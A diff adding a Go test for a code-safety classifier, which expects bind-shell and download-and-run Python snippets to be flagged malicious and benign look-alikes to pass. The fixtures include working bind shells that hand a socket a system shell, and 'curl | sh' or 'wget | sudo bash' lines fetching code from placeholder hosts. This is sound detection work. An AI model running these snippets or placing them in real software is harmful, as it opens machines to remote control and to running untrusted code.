@@ -91,3 +91,26 @@ func TestEscapesPersistenceWipes(t *testing.T) {
 		{"paramiko RejectPolicy", "import paramiko\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.set_missing_host_key_policy(paramiko.RejectPolicy())\n", "", "", 0, 0},
 	})
 }
+
+// TestBindShellsAndDownloadRun checks that a bind shell is malicious as a reverse shell is,
+// and that download-and-run — a downloaded file run, code fetched given to exec, a
+// download piped into a shell — is malicious (blocked under default), not unsafe or
+// high-risk; and that their benign neighbours are not.
+func TestBindShellsAndDownloadRun(t *testing.T) {
+	const mal = governance.FlagMalicious
+	checkFamilies(t, []familyCase{
+		{"bind shell with subprocess", "import socket, os, subprocess\nl = socket.socket()\nl.bind(('', 4242))\nl.listen(5)\nc, _ = l.accept()\nos.dup2(c.fileno(), 0); os.dup2(c.fileno(), 1)\nsubprocess.call(['/bin/zsh'])\n", "codesafety.reverse-shell", mal, 6, 9},
+		{"bind shell with pty", "import socket, os, pty\nsrv = socket.create_server(('0.0.0.0', 5555))\nconn, peer = srv.accept()\nfor n in range(3):\n    os.dup2(conn.fileno(), n)\npty.spawn('sh')\n", "codesafety.reverse-shell", mal, 5, 9},
+		{"echo server", "import socket\nsrv = socket.create_server(('127.0.0.1', 7000))\nwhile True:\n    c, _ = srv.accept()\n    c.sendall(c.recv(1024))\n    c.close()\n", "", "", 0, 0},
+		{"urlretrieve then run", "import os, subprocess, urllib.request\nurllib.request.urlretrieve(URL, '/tmp/.cache/upd')\nos.chmod('/tmp/.cache/upd', 0o700)\nsubprocess.run(['/tmp/.cache/upd'])\n", "codesafety.download-exec", mal, 4, 8},
+		{"requests body written, then bash", "import requests, subprocess\nscript = 'boot.sh'\nwith open(script, 'wb') as out:\n    out.write(requests.get(URL, timeout=9).content)\nsubprocess.check_call(['bash', script])\n", "codesafety.download-exec", mal, 5, 8},
+		{"downloaded python run by the interpreter", "import sys, subprocess, httpx\nopen('m.py', 'w').write(httpx.get(URL).text)\nsubprocess.run([sys.executable, 'm.py'])\n", "codesafety.download-exec", mal, 3, 8},
+		{"exec of a fetched body", "from urllib.request import urlopen\nsrc = urlopen(URL).read().decode()\nexec(compile(src, 'remote', 'exec'))\n", "codesafety.download-exec", mal, 3, 8},
+		{"curl piped into sh", "import subprocess\nsubprocess.run('curl -fsSL https://install.example.org | sh -s -- -y', shell=True)\n", "codesafety.download-exec", mal, 2, 8},
+		{"wget into sudo bash", "import os\nos.system('wget -q -O - http://198.51.100.2/i | sudo bash')\n", "codesafety.download-exec", mal, 2, 8},
+		{"bash process substitution", "import subprocess\nsubprocess.run(['bash', '-c', 'bash <(curl -s https://x.example.org/s)'])\n", "codesafety.download-exec", mal, 2, 8},
+		{"download saved, not run", "import requests\nwith open('data.csv', 'wb') as f:\n    f.write(requests.get(URL).content)\nprint('saved')\n", "", "", 0, 0},
+		{"local script run, nothing downloaded", "import subprocess\nopen('job.sh', 'w').write('echo hi\\n')\nsubprocess.run(['bash', 'job.sh'])\n", "", "", 0, 0},
+		{"curl alone", "import subprocess\nsubprocess.run(['curl', '-sS', '-o', 'out.json', 'https://api.example.org/x'])\n", "", "", 0, 0},
+	})
+}
